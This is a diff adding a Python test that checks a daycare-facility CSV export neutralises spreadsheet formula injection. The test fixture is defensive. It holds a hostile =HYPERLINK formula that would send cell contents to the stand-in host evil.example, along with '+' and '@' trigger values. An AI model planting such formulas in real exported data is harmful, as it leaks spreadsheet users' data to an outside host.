@@ -4,10 +4,13 @@ that Excel would run."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from typing import Any
 
 from hagukumi.resources import make_redis
 from registry.users import MAX_FAILURES, SignIn, authenticate
+from tests.integrations.daycare.daycare_factories import facility, insert
 from tests.web.conftest import PASSWORD, csrf_of
 
 HUGE = "9" * 30
@@ -81,3 +84,25 @@ async def test_the_live_check_refuses_categories_that_are_not_a_list(
     )
     assert answer.status == 200
     assert (await answer.json())["rule_ok"] in {True, False}
+
+
+async def test_exported_cells_that_look_like_formulas_are_quoted_as_text(
+    client: Any, signed_in: Any, sessions: Any
+) -> None:
+    await signed_in("132012", "viewer")
+    await insert(
+        sessions,
+        facility(
+            municipality="132012",
+            name_ja='=HYPERLINK("http://evil.example/?"&A1,"開く")',
+            address="+81 東京都",
+            notes="@SUM(1+1)",
+        ),
+    )
+    export = await client.get("/console/daycare/facilities.csv")
+    assert export.status == 200
+    rows = list(csv.reader(io.StringIO((await export.text()).lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"開く")' in cells
+    assert "'+81 東京都" in cells and "'@SUM(1+1)" in cells
+    assert not any(cell[:1] in {"=", "+", "@"} for cell in cells)
